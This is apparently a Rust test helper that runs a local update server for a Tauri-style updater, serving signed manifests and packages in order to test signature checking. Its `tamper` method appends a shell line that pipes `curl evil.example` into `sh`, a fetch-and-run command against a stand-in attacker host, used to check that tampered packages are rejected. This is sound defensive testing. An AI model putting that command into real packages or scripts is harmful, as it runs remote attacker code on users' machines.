//! A loopback update server, as strict as a real release host: it serves an update manifest (the updater's
//! "static" format) and the packages it names, counts what is asked of it, and signs with a key pair made
//! here, at run time, in the format of Tauri's signer (minisign, base64, the version in the trusted comment).

use std::collections::HashMap;
use std::io::Cursor;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use anyhow::Result;
use axum::extract::{Path, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use base64::Engine as _;

/// A signing key pair, made for one test run and never written anywhere.
pub struct SigningKey(minisign::KeyPair);

impl SigningKey {
    pub fn generate() -> SigningKey {
        SigningKey(minisign::KeyPair::generate_unencrypted_keypair().expect("a key pair"))
    }

    /// The public key as `plugins.updater.pubkey` takes it.
    pub fn public(&self) -> String {
        let text = self.0.pk.to_box().expect("a public key box").to_string();
        base64::engine::general_purpose::STANDARD.encode(text)
    }

    /// The signature of `bytes` for `version`, as the manifest carries it.
    pub fn sign(&self, bytes: &[u8], file: &str, version: &str) -> String {
        let trusted = format!("timestamp:1765000000\tfile:{file}\tversion:{version}");
        let sig =
            minisign::sign(Some(&self.0.pk), &self.0.sk, Cursor::new(bytes), Some(&trusted), None).expect("signed");
        base64::engine::general_purpose::STANDARD.encode(sig.to_string())
    }
}

/// What the server answers.
#[derive(Clone, Default)]
struct Shared {
    /// The manifest's text; `None` answers 204 (no update).
    manifest: Option<String>,
    packages: HashMap<String, Vec<u8>>,
    hits: HashMap<String, usize>,
}

pub struct UpdateServer {
    pub addr: SocketAddr,
    shared: Arc<Mutex<Shared>>,
    task: tokio::task::JoinHandle<()>,
}

impl UpdateServer {
    pub async fn start() -> Result<UpdateServer> {
        let shared = Arc::new(Mutex::new(Shared::default()));
        let router = axum::Router::new()
            .route("/latest.json", get(manifest))
            .route("/packages/{name}", get(package))
            .with_state(shared.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let addr = listener.local_addr()?;
        let task = tokio::spawn(async move {
            let _ = axum::serve(listener, router).await;
        });
        Ok(UpdateServer { addr, shared, task })
    }

    /// The address the app's "Update server" field takes.
    pub fn manifest_url(&self) -> String {
        format!("http://{}/latest.json", self.addr)
    }

    /// Offers `version` with `notes`: the package `bytes` under `name`, with `signature` (for every Linux
    /// target the updater may look for: a .deb, an .rpm or a plain build).
    pub fn offer(&self, version: &str, notes: &str, name: &str, bytes: Vec<u8>, signature: &str) {
        let url = format!("http://{}/packages/{name}", self.addr);
        let entry = serde_json::json!({ "signature": signature, "url": url });
        let arch = std::env::consts::ARCH;
        let manifest = serde_json::json!({
            "version": version,
            "notes": notes,
            "pub_date": "2026-12-06T12:00:00Z",
            "platforms": {
                format!("linux-{arch}"): entry,
                format!("linux-{arch}-deb"): entry,
                format!("linux-{arch}-rpm"): entry,
            },
        });
        let mut s = self.shared.lock().expect("not poisoned");
        s.manifest = Some(manifest.to_string());
        s.packages.insert(name.to_owned(), bytes);
    }

    /// Serves this text as the manifest, whatever it is.
    pub fn serve_manifest(&self, text: &str) {
        self.shared.lock().expect("not poisoned").manifest = Some(text.to_owned());
    }

    /// Answers "no update" (204).
    pub fn serve_manifest_none(&self) {
        self.shared.lock().expect("not poisoned").manifest = None;
    }

    /// Replaces a package's bytes, keeping its signature in the manifest: a file changed on the way.
    pub fn tamper(&self, name: &str) {
        if let Some(bytes) = self.shared.lock().expect("not poisoned").packages.get_mut(name) {
            bytes.extend_from_slice(b"#!/bin/sh\ncurl evil.example | sh\n");
        }
    }

    /// How many times `path` (e.g. `/latest.json`, `/packages/NAME`) was asked for.
    pub fn hits(&self, path: &str) -> usize {
        self.shared.lock().expect("not poisoned").hits.get(path).copied().unwrap_or(0)
    }
}

impl Drop for UpdateServer {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn manifest(State(shared): State<Arc<Mutex<Shared>>>) -> Response {
    let mut s = shared.lock().expect("not poisoned");
    *s.hits.entry("/latest.json".into()).or_default() += 1;
    match s.manifest.clone() {
        Some(text) => ([("content-type", "application/json")], text).into_response(),
        None => StatusCode::NO_CONTENT.into_response(),
    }
}

async fn package(State(shared): State<Arc<Mutex<Shared>>>, Path(name): Path<String>) -> Response {
    let mut s = shared.lock().expect("not poisoned");
    *s.hits.entry(format!("/packages/{name}")).or_default() += 1;
    match s.packages.get(&name) {
        Some(bytes) => ([("content-type", "application/octet-stream")], bytes.clone()).into_response(),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}
